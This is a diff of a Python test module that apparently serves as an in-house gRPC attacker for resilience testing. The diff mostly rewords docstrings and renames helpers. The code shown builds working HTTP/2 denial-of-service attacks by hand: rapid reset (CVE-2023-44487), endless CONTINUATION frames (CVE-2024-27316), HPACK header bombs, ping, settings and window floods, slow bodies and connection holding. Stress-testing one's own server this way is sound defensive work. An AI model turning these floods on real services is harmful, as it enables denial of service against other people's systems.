@@ -1,11 +1,11 @@
-"""A stranger with a grudge, on the gRPC port: one of the attacks below, from one machine, for some seconds.
+"""An attacker on the gRPC port: runs one of the attacks below, from one machine, for some seconds.
 
-Run as `python -m tests.interop.attacks.grpc_attacker JSON`; the JSON has `kind`, `address`, `port`, `seconds`, and as
-they are wanted `connections` (at once), `tls` with `certificate` and `key`, and `local` (our own addresses, taken in
-turn). Each connection that is closed is opened again. Prints as JSON how many connections were made, how many of them
-were closed by the server, and how many bytes were sent.
+Run as `python -m tests.interop.attacks.grpc_attacker JSON`; the JSON has `kind`, `address`, `port`, `seconds`, and
+optionally `connections` (at once), `tls` with `certificate` and `key`, and `local` (our own addresses, used in turn).
+Closed connections are reopened. Prints as JSON the numbers of opened connections, of those that the server closed, and
+of sent bytes.
 
-HTTP/2 frames (RFC 9113) and header blocks (RFC 7541) are made by hand: an attacker sends what no library would. The
+HTTP/2 frames (RFC 9113) and header blocks (RFC 7541) are built by hand, since no library would send them. The
 first header block of a connection adds its four long fields to the receiver's table, and `AGAIN` names them by their
 numbers there. That request has 15 bytes and is the cheapest one for its sender.
 """
@@ -34,9 +34,9 @@ OLDER = "proto.WorkflowService"
 _LAST_STREAM = 2**31 - 1
 _CHUNK = 1000
 _PAUSE = 0.05
-"""Seconds before a connection that was refused or closed is tried again."""
+"""Seconds between a refused or closed connection and the next attempt."""
 
-# --- what is sent: pieces of bytes; after the last of them the connection is held -------------------------------------
+# --- sent pieces of bytes; after the last one, the connection stays open ----------------------------------------------
 
 Pieces = Iterator[bytes]
 Rest = Callable[[int], bytes]
@@ -48,7 +48,7 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
 
 
 def text(value: bytes) -> bytes:
-    """A string that is not Huffman coded; its length is an integer with a prefix of seven bits."""
+    """Encode a string without Huffman coding; its length is an integer with a prefix of seven bits."""
     if len(value) < 127:
         return bytes((len(value),)) + value
     length, rest = bytearray((127,)), len(value) - 127
@@ -59,12 +59,12 @@ def text(value: bytes) -> bytes:
 
 
 def message(body: bytes) -> bytes:
-    """A gRPC message that is not compressed."""
+    """Encode an uncompressed gRPC message."""
     return b"\0" + len(body).to_bytes(4, "big") + body
 
 
 def block(service: str, method: str) -> bytes:
-    """The headers of a call, put into the receiver's table."""
+    """Encode the headers of a call, with entries for the receiver's table."""
     path = text(f"/{service}/{method}".encode())
     te = text(b"te") + text(b"trailers")
     return b"\x83\x86\x44" + path + b"\x41" + text(b"attack") + b"\x40" + te + b"\x5f" + text(b"application/grpc")
@@ -78,11 +78,11 @@ LARGE = text(b"y" * 3800)
 UNACKNOWLEDGED = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
 """The limit of a header block does not bind a client that has not acknowledged it (RFC 9113 section 6.5.3)."""
 PREFACE = UNACKNOWLEDGED + frame(SETTINGS, ACK, 0)
-"""It acknowledges the server's settings before they have come."""
+"""Acknowledges the server's settings before they have arrived."""
 
 
 def _streams(first: bytes, again: bytes, rest: Rest, most: int = _LAST_STREAM) -> Pieces:
-    """Requests, one after the other, each followed by `rest(stream)`."""
+    """Yield requests, each followed by `rest(stream)`."""
     yield PREFACE + frame(HEADERS, END_HEADERS, 1, first) + rest(1)
     head = len(again).to_bytes(3, "big") + bytes((HEADERS, END_HEADERS))
     for begin in range(3, 2 * most, 2 * _CHUNK):
@@ -107,7 +107,7 @@ def _whole(body: bytes) -> Rest:
 
 
 def _open(body: bytes) -> Rest:
-    """A message after which more may come."""
+    """Return a message after which the stream stays open."""
     return lambda stream: frame(DATA, 0, stream, message(body))
 
 
@@ -115,12 +115,12 @@ _asks_for_x = _whole(b"\x0a\x01x")
 """A whole request for a machine that does not exist."""
 
 
-def _for_ever(piece: bytes, opening: bytes = b"") -> Callable[[], Pieces]:
+def _endless(piece: bytes, opening: bytes = b"") -> Callable[[], Pieces]:
     return lambda: itertools.chain([PREFACE + opening], itertools.repeat(piece))
 
 
 def _indexed_bomb() -> Pieces:
-    """A block of 16 kB that is 60 MB when it is unpacked."""
+    """Yield a header block of 16 kB that expands to 60 MB."""
     yield PREFACE + frame(HEADERS, END_HEADERS, 1, GET_WORKFLOWS + b"\x40" + text(b"x") + LARGE)
     for stream in itertools.count(3, 2):
         yield frame(HEADERS, END_HEADERS, stream, AGAIN_WITH + b"\xbe" * 16_000)
@@ -134,7 +134,7 @@ def _resting_bomb() -> Pieces:
 
 
 def _slow_bodies() -> Pieces:
-    """Messages that come byte by byte."""
+    """Yield messages byte by byte."""
     yield PREFACE + frame(HEADERS, END_HEADERS, 1, block(WORKFLOWS, "PublishEvent"))
     yield b"".join(frame(HEADERS, END_HEADERS, stream, AGAIN) for stream in range(3, 200, 2))
     for index in itertools.count():
@@ -146,10 +146,10 @@ def _slow_bodies() -> Pieces:
 _A_CALL = frame(HEADERS, END_HEADERS, 1, GET_WORKFLOWS)
 _MORE_HEADERS = frame(CONTINUATION, 0, 1, (b"\x00" + text(b"x-a") + text(b"y" * 100)) * 100)
 KINDS: dict[str, Callable[[], Pieces]] = {
-    # CVE-2023-44487: each request is taken back at once, or when the whole of it has arrived.
+    # CVE-2023-44487: each request is cancelled at once, or after the whole of it has arrived.
     "rapid_reset": _calls(WORKFLOWS, "GetWorkflows", _reset),
     "reset_after_message": _calls(WORKFLOWS, "GetWorkflows", lambda stream: _asks_for_x(stream) + _reset(stream)),
-    # Whole requests: of agents, of tink-agent, of tink-worker v0.8; a report of which half is another dialect's.
+    # Whole requests: of agents, of tink-agent, of tink-worker v0.8; a report that mixes two dialects.
     "calls": _calls(WORKFLOWS, "GetWorkflows", _asks_for_x),
     "polls": _calls(OLDER, "GetAction", _asks_for_x),
     "contexts": _calls(
@@ -157,7 +157,7 @@ KINDS: dict[str, Callable[[], Pieces]] = {
     ),
     "reports": _calls(OLDER, "ReportActionStatus", _whole(b"\x0a\x01x\x20\x04\x22\x7fx")),
     "unknown_method": _calls("no.such", "Method", _whole(b"")),
-    # Calls whose message never comes, or that stay open when it has come.
+    # Calls without a message, or that stay open after their message.
     "unended": _calls(WORKFLOWS, "GetWorkflows", _nothing, 20_000),
     "unended_polls": _calls(OLDER, "GetAction", _nothing, 20_000),
     "outputs": _calls("tinkedge.output.v1.OutputService", "WriteOutput", _nothing, 20_000),
@@ -165,25 +165,25 @@ KINDS: dict[str, Callable[[], Pieces]] = {
     "reflections": _calls(
         "grpc.reflection.v1alpha.ServerReflection", "ServerReflectionInfo", _open(b"\x3a\x00"), 20_000
     ),
-    # As much metadata as there may be, in the receiver's table, so that it costs the sender nothing.
+    # The maximum of metadata, from the receiver's table, so that it costs the sender nothing.
     "metadata": lambda: _streams(
         GET_WORKFLOWS + b"\x40" + text(b"x-large") + LARGE, AGAIN_WITH + b"\xbe" * 2, _nothing, 20_000
     ),
-    # A header block that has no end (CVE-2024-27316).
-    "continuations": _for_ever(_MORE_HEADERS * 10, frame(HEADERS, 0, 1, GET_WORKFLOWS)),
+    # An endless header block (CVE-2024-27316).
+    "continuations": _endless(_MORE_HEADERS * 10, frame(HEADERS, 0, 1, GET_WORKFLOWS)),
     "indexed_bomb": _indexed_bomb,
     "resting_bomb": _resting_bomb,
-    "pings": _for_ever(frame(PING, 0, 0, b"attacker") * _CHUNK),
-    "settings": _for_ever(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * _CHUNK),
-    "windows": _for_ever(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * _CHUNK, _A_CALL),
-    "empty_data": _for_ever(frame(DATA, 0, 1) * _CHUNK, _A_CALL),
+    "pings": _endless(frame(PING, 0, 0, b"attacker") * _CHUNK),
+    "settings": _endless(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * _CHUNK),
+    "windows": _endless(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * _CHUNK, _A_CALL),
+    "empty_data": _endless(frame(DATA, 0, 1) * _CHUNK, _A_CALL),
     "slow_bodies": _slow_bodies,
     "idle": lambda: iter([b""]),
     "preface": lambda: iter([PREFACE]),
     "half_handshake": lambda: iter([bytes.fromhex("16030102000100")]),
 }
 
-# --- how --------------------------------------------------------------------------------------------------------------
+# --- connections ------------------------------------------------------------------------------------------------------
 
 
 @dataclass
@@ -211,7 +211,7 @@ class Attack:
         if self.kind in ("idle", "preface", "half_handshake") and not self.churn:
             self._hold()
             return
-        threads = [threading.Thread(target=self._again_and_again) for _ in range(self.connections)]
+        threads = [threading.Thread(target=self._reconnect_continuously) for _ in range(self.connections)]
         for thread in threads:
             thread.start()
         for thread in threads:
@@ -244,28 +244,28 @@ class Attack:
         return context
 
     def _hold(self) -> None:
-        """As many connections as there can be, kept."""
-        held: list[socket.socket] = []
+        """Open as many connections as possible and keep them open."""
+        open_sockets: list[socket.socket] = []
         opening = next(KINDS[self.kind]())
         poll = select.poll()
         while time.monotonic() < self._end:
-            while len(held) < self.connections and time.monotonic() < self._end:
+            while len(open_sockets) < self.connections and time.monotonic() < self._end:
                 sock = self._connect()
                 if sock is None:
                     break
                 sock.sendall(opening)
                 self.sent += len(opening)
-                held.append(sock)
+                open_sockets.append(sock)
                 poll.register(sock, select.POLLRDHUP | select.POLLHUP)
-            gone = {handle for handle, _ in poll.poll(50)}
-            self.closed += len(gone)
-            for sock in [each for each in held if each.fileno() in gone]:
+            closed_handles = {handle for handle, _ in poll.poll(50)}
+            self.closed += len(closed_handles)
+            for sock in [each for each in open_sockets if each.fileno() in closed_handles]:
                 poll.unregister(sock)
-                held.remove(sock)
+                open_sockets.remove(sock)
                 sock.close()
-        print(json.dumps({"held": len(held)}), file=sys.stderr)
+        print(json.dumps({"held": len(open_sockets)}), file=sys.stderr)
 
-    def _again_and_again(self) -> None:
+    def _reconnect_continuously(self) -> None:
         while time.monotonic() < self._end:
             sock = self._connect()
             if sock is not None:
@@ -275,7 +275,7 @@ class Attack:
                 time.sleep(_PAUSE)
 
     def _speak(self, sock: socket.socket) -> None:
-        """All pieces, and then silence, until the server closes it or the time is over."""
+        """Send all pieces, then stay silent until the server closes the connection or the time is over."""
         sock.settimeout(0.02)
         try:
             for piece in KINDS[self.kind]():
@@ -299,7 +299,7 @@ class Attack:
             self.closed += 1
 
     def _drain(self, sock: socket.socket) -> None:
-        """Read what there is. Raises ConnectionResetError at its end."""
+        """Discard the received bytes. Raises ConnectionResetError at the end of the connection."""
         while select.select([sock], [], [], 0)[0]:
             try:
                 if not sock.recv(1 << 16):
